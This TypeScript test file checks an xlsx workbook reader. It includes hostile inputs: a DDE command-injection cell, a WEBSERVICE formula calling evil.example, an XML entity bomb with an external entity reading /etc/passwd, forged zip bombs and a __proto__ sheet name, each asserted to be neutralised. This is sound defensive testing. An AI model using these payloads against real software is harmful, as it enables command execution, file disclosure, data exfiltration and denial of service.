import { utils, write } from '@e965/xlsx'
import { describe, expect, test } from 'vitest'
import { writeZip } from './fixtures/write-zip.ts'
import type { BookSheet } from '#services/desk/new-chart/reading/read-grid.ts'
import { readBook, readWorkbook } from './read-workbook.ts'

const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'

interface RawSheet {
  /** Content of the `worksheet` element. */
  xml: string
  /** Text before the `worksheet` element. */
  prolog?: string
}

/** A workbook as written by hand. */
function rawWorkbook(sheets: readonly RawSheet[]): Buffer {
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
  const each = <T>(write: (sheet: RawSheet, at: number) => T) => sheets.map((sheet, at) => write(sheet, at + 1))
  const files = [
    {
      name: '[Content_Types].xml',
      content: `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/>${each((_, at) => `<Override PartName="/xl/worksheets/sheet${at}.xml" ContentType="${type}.worksheet+xml"/>`).join('')}</Types>`,
    },
    {
      name: '_rels/.rels',
      content: `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="rId1" Type="${RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      content: `<workbook ${MAIN} xmlns:r="${RELATIONS}"><sheets>${each((_, at) => `<sheet name="S${at}" sheetId="${at}" r:id="rId${at}"/>`).join('')}</sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: `<Relationships xmlns="${PACKAGE}/relationships">${each((_, at) => `<Relationship Id="rId${at}" Type="${RELATIONS}/worksheet" Target="worksheets/sheet${at}.xml"/>`).join('')}</Relationships>`,
    },
    ...each(({ xml, prolog = '' }, at) => ({
      name: `xl/worksheets/sheet${at}.xml`,
      content: `${prolog}<worksheet ${MAIN}>${xml}</worksheet>`,
    })),
  ]
  return writeZip(files.map(({ name, content }) => ({ name, content: Buffer.from(content) })))
}

const rows = (xml: string) => `<sheetData>${xml}</sheetData>`
const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`
const good = rows(
  `<row r="1">${text('B1', '2020')}</row><row r="2">${text('A2', 'Harris')}<c r="B2"><v>5</v></c></row>`,
)

describe('cells', () => {
  test.each<[what: string, cell: object, shown: string]>([
    ['a number', { t: 'n', v: 1234.5 }, '1234.5'],
    ['a percentage', { t: 'n', v: 0.741, z: '0.0%' }, '74.1%'],
    ['a dollar amount', { t: 'n', v: 1234.5, z: '"$"#,##0' }, '$1,235'],
    ['a day', { t: 'n', v: 43_831, z: 'yyyy-mm-dd' }, '2020-01-01'],
    ['true', { t: 'b', v: true }, 'TRUE'],
    ['an error', { t: 'e', v: 0x17 }, '#REF!'],
    ['the result of a formula', { t: 'n', v: 7, f: 'SUM(1,6)' }, '7'],
    ['a command as text', { t: 's', v: `=cmd|'/c calc'!A1` }, `=cmd|'/c calc'!A1`],
  ])('are read as shown: %s', (_, cell, shown) => {
    const sheet = { '!ref': 'A1', A1: cell }
    const file = write({ SheetNames: ['S'], Sheets: { S: sheet } }, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    expect(readWorkbook(file)).toEqual([{ title: 'S', values: [[shown]] }])
  })

  test('with a formula that was never calculated are empty', () => {
    const xml = rows(
      '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;B1)</f></c><c r="B1"><v>5</v></c></row>',
    )
    expect(readWorkbook(rawWorkbook([{ xml }]))).toEqual([{ title: 'S1', values: [['', '5']] }])
  })
})

test('a new chart has a notice for everything that a sheet hides or lacks', () => {
  const xml = `<cols><col min="2" max="2" width="9" hidden="1"/></cols>${rows(
    `<row r="1">${text('A1', 'Title')}</row><row r="2" hidden="1">${text('A2', 'x')}</row>` +
      '<row r="3"><c r="A3"><f>SUM(1,6)</f></c><c r="B3"><v>5</v></c><c r="C3"><f>1+1</f><v>2</v></c></row>',
  )}<mergeCells><mergeCell ref="A1:C1"/></mergeCells>`
  const sheets = readBook(rawWorkbook([{ xml }]))
  const [{ values, notices }] = sheets as [BookSheet]
  expect(values.at(-1)).toEqual(['', '5', '2'])
  expect(notices.map(({ code, message }) => `${code}: ${message}`)).toEqual([
    'hidden-rows: Hidden in the file and read here: row 2.',
    'hidden-column: Column B is hidden in the file and read here.',
    'merged-cells: Merged cells, of which the first holds the text: A1:C1.',
    'formula-without-value: Formulas without a value, which are empty here: A3. Open and save the file in a spreadsheet program.',
  ])
})

test.each<[what: string, file: Buffer, fault: string]>([
  ['a zip file of something else', writeZip([{ name: 'a.txt', content: Buffer.from('a') }]), 'not-a-worksheet'],
  ['half of one', rawWorkbook([{ xml: good }]).subarray(0, 700), 'not-a-worksheet'],
  ['34 MB', rawWorkbook([{ xml: good + ' '.repeat(34_000_000) }]), 'too-large'],
])('a new chart is not read from %s', (_, file, fault) => expect(readBook(file)).toBe(fault))

describe('a hostile workbook', () => {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
  const laughs = `<!DOCTYPE worksheet [<!ENTITY e0 "ha">${entities}<!ENTITY file SYSTEM "file:///etc/passwd">]>`
  const overlapping = () => {
    const file = rawWorkbook([{ xml: good + ' '.repeat(3_000_000) }])
    // Every entry of the directory leads to the largest file.
    const end = file.length - 22
    const from = file.readUInt32LE(end + 16)
    const last = file.lastIndexOf('PK\x01\x02', end, 'latin1')
    for (let at = from; at < last; at = file.indexOf('PK\x01\x02', at + 4, 'latin1'))
      file.writeUInt32LE(file.readUInt32LE(last + 42), at + 42)
    const directory = file.subarray(from, end)
    const many = Buffer.concat(Array.from({ length: 40 }, () => directory))
    const tail = Buffer.from(file.subarray(end))
    tail.writeUInt16LE(5 * 40, 8)
    tail.writeUInt16LE(5 * 40, 10)
    tail.writeUInt32LE(many.length, 12)
    return Buffer.concat([file.subarray(0, from), many, tail])
  }

  let large: Buffer | null = null
  /** A file whose last worksheet has a wrong size in the directory, in its own header or in both. */
  const forged = (
    directory: (at: number, file: Buffer) => void,
    own: (at: number, file: Buffer) => void = () => {},
  ) => {
    large ??= rawWorkbook([{ xml: good + ' '.repeat(34_000_000) }])
    const file = Buffer.from(large)
    const entry = file.lastIndexOf('PK\x01\x02', undefined, 'latin1')
    directory(entry, file)
    own(file.readUInt32LE(entry + 42), file)
    return file
  }

  test.each<[what: string, file: () => Buffer, answer: unknown]>([
    ['34 MB in one file', () => forged(() => {}), 'too large'],
    ['a file with a false compression method', () => forged((at, file) => file.writeUInt16LE(0, at + 10)), 'too large'],
    [
      'a file with a false size',
      () =>
        forged(
          (at, file) => file.writeUInt32LE(10, at + 24),
          (at, file) => file.writeUInt32LE(10, at + 22),
        ),
      'too large',
    ],
    [
      'a file with a false compressed size',
      () =>
        forged(
          (at, file) => file.writeUInt32LE(10, at + 20),
          (at, file) => file.writeUInt32LE(10, at + 18),
        ),
      'too large',
    ],
    [
      '40 MB in a hundred files',
      () =>
        writeZip(
          Array.from({ length: 101 }, (_, at) => ({
            name: at === 0 ? '[Content_Types].xml' : `xl/${at}.xml`,
            content: Buffer.alloc(400_000),
          })),
        ),
      'too large',
    ],
    [
      'a zip file within a zip file',
      () => writeZip([{ name: 'Index.zip', content: rawWorkbook([{ xml: good }]) }]),
      'not a workbook',
    ],
    [
      'a range of a million rows',
      () => rawWorkbook([{ xml: `<dimension ref="A1:XFD1048576"/>${good}` }]),
      [
        {
          title: 'S1',
          values: [
            ['', '2020'],
            ['Harris', '5'],
          ],
        },
      ],
    ],
    [
      'endless merged cells',
      () => rawWorkbook([{ xml: `${good}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>` }]),
      [
        {
          title: 'S1',
          values: [
            ['', '2020'],
            ['Harris', '5'],
          ],
        },
      ],
    ],
    [
      'a cell in the last row and column',
      () => rawWorkbook([{ xml: rows(`<row r="1048576">${text('XFD1048576', 'x')}</row>`) }]),
      [
        {
          title: 'S1',
          values: [{ sheetTooLarge: { measure: 'rows', found: 1_048_576, most: 20_000 } }],
        },
      ],
    ],
    ['overlapping files', overlapping, 'too large'],
    ['a truncated workbook', () => rawWorkbook([{ xml: good }]).subarray(0, 700), 'not a workbook'],
    ['another zip file', () => writeZip([{ name: 'a.txt', content: Buffer.from('a') }]), 'not a workbook'],
    ['a workbook from before 2007', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(4096, '0'), 'hex'), 'not a workbook'],
    [
      'too many files',
      () => writeZip(Array.from({ length: 10_001 }, (_, at) => ({ name: String(at), content: Buffer.alloc(0) }))),
      'not a workbook',
    ],
    ['an empty file', () => Buffer.alloc(0), 'not a workbook'],
  ])('is read or rejected within three seconds: %s', (_, file, answer) => {
    const bytes = file()
    // CPU time of this thread only, so that a busy machine does not affect the result.
    const began = process.threadCpuUsage()
    expect(readWorkbook(bytes)).toEqual(answer)
    expect(process.threadCpuUsage(began).user / 1000).toBeLessThan(3000)
  })

  test('does not expand entities', () => {
    const xml = rows(`<row r="1">${text('A1', '&e9;')}${text('B1', '&file;')}</row>`)
    const answer = readWorkbook(rawWorkbook([{ prolog: laughs, xml }]))
    expect(JSON.stringify(answer).length).toBeLessThan(200)
    expect(JSON.stringify(answer)).not.toMatch(/haha|root:/)
  })

  test('uses a worksheet title only as a name', () => {
    const book = utils.book_new(utils.aoa_to_sheet([['a']]), '__proto__')
    const file = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    const answer = readWorkbook(file)
    expect(answer === 'not a workbook' || Array.isArray(answer)).toBe(true)
    expect(Object.keys({})).toEqual([])
    expect(({} as Record<string, unknown>)['!ref']).toBeUndefined()
  })

  test('may have hundreds of worksheets', () => {
    const answer = readWorkbook(rawWorkbook(Array.from({ length: 600 }, () => ({ xml: good }))))
    expect(Array.isArray(answer) && answer.length).toBe(600)
  })
})
